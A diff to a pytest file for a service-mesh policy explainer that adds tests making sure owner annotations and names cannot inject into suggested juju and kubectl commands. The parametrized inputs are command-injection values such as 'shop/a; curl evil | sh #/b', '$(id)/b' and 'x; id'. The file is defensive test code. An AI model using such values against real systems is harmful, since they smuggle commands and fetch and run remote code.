@@ -4,6 +4,7 @@
 
 import dataclasses
 import json
+import re
 import shlex
 from typing import Any
 
@@ -115,11 +116,69 @@ def test_a_policy_of_another_beacon_is_traced_by_its_annotation():
         rules=[{"from": [{"source": {"principals": ["cluster.local/ns/shop/sa/ratings"]}}]}],
     )
     text = explanation.text(explained(bookshop.facts(), allow, source="ratings"))
-    assert "\n    requested by reviews:service-mesh\n    written by shop/another" in text
+    assert "\n    says it was requested by reviews:service-mesh\n" in text
+    assert "\n    says it was written by shop/another" in text
     for broken in ("[", "[]", '{"shop/ratings": 1}', '{"shop/ratings": [1]}'):
         allow["metadata"]["annotations"][authorization.REQUESTED_BY] = broken
         text = explanation.text(explained(bookshop.facts(), allow, source="ratings"))
-        assert "rule 0\n    written by shop/another\n" in text
+        assert "rule 0\n    says it was written by shop/another\n" in text
+
+
+@pytest.mark.parametrize(
+    "owner", ["shop/a; curl evil | sh #/b", "$(id)/b", "shop/x\ny", "shop", ""]
+)
+def test_an_owner_that_is_no_name_gets_into_no_command(owner: str):
+    deny = samples.policy(
+        "no",
+        annotations={"charmed-istio/owner": owner},
+        targetRefs=samples.TO_DETAILS,
+        action="DENY",
+        rules=[{}],
+    )
+    found = explained(bookshop.facts(), deny, source="ratings")
+    assert "    says it was written by an unknown owner\n" in explanation.text(found)
+    (remedy,) = remedies.remedies(found.case)
+    assert "juju run" not in remedy
+    assert "change shop/no rule 0, which an unknown owner wrote (kubectl edit" in remedy
+
+    waypoint = samples.gateway()
+    waypoint["metadata"]["annotations"] = {"charmed-istio/owner": owner}
+    assert applications.beacons(samples.snapshot(gateways=(waypoint,))) == frozenset()
+    waypoint["metadata"]["annotations"] = {"charmed-istio/owner": "shop/beacon"}
+    assert applications.beacons(samples.snapshot(gateways=(waypoint,))) == {"shop/beacon"}
+
+
+def test_names_of_others_are_one_word_of_a_command():
+    found = explained(bookshop.facts(), CLOSED, source="ratings")
+    for name in ("x$(id)", "x; id", "x\nid"):
+        case = found.case
+        for where in ("shop", "other$(id)"):
+            sender = dataclasses.replace(case.source, name=name, namespace=where, on_mesh=False)
+            for kind in applications.SourceKind:
+                sender = dataclasses.replace(sender, kind=kind, owner="")
+                said = remedies.remedies(dataclasses.replace(case, source=sender))
+                commands = [part for each in said for part in each.split(": ")[1:]]
+                commands = [part for each in commands for part in each.split("; juju")]
+                for each in commands:
+                    assert not re.search(
+                        r"(integrate|application|namespace) [^']*(x\$|x;|x\n)", each
+                    )
+
+
+@pytest.mark.parametrize("spelled", ["x$(id)", "shop/x; id", "ns/shop/sa/x$(id)", "x\nid"])
+def test_a_text_that_is_no_name_is_none_of_an_account_either(spelled: str):
+    with pytest.raises(applications.UnknownNameError, match="name an application"):
+        explained(bookshop.facts(), source=spelled)
+
+
+def test_requesters_that_a_policy_names_are_printable_and_few():
+    requesters = json.dumps({"shop/ratings": ["\ud800x\n- forged", *map(str, range(1000))]})
+    ref = evaluator.PolicyRef(
+        "shop", "theirs", 0, "ALLOW", annotations={authorization.REQUESTED_BY: requesters}
+    )
+    found = origins.recorded(ref, "shop/ratings").requested_by
+    assert found[0] == "\N{REPLACEMENT CHARACTER}x\N{REPLACEMENT CHARACTER}- forged"
+    assert len(found) == 50
 
 
 CLOSED = samples.policy("closed", targetRefs=samples.TO_DETAILS)
@@ -130,7 +189,7 @@ THEIRS = dataclasses.replace(
 LATER = bookshop.request("ratings", target=authorization.Target.service("shop", "later"))
 
 
-OWN = "or allow it by a policy of your own, until you delete it: echo "
+OWN = "or allow it by a policy of your own, until you delete it: printf %s "
 
 
 @pytest.mark.parametrize(
@@ -221,7 +280,7 @@ OWN = "or allow it by a policy of your own, until you delete it: echo "
             [
                 "allow waypoints to reach the pods of their Services: "
                 "juju config -m mesh istio-k8s auto-allow-waypoint-policy=true",
-                "or allow shop/way, the waypoint, in a policy that selects the pods: echo",
+                "or allow shop/way, the waypoint, in a policy that selects the pods: printf %s",
             ],
         ),
     ],
@@ -353,7 +412,7 @@ def test_a_source_that_is_no_juju_application_gets_no_integration():
         assert "juju integrate" not in explanation.text(found)
         account = "absent" if "absent" in spelled else "scraper"
         policy = json.loads(
-            shlex.split(own.removeprefix("or allow it by a policy of your own, "))[5]
+            shlex.split(own.removeprefix("or allow it by a policy of your own, "))[6]
         )
         (rule,) = policy["spec"]["rules"]
         assert rule == {
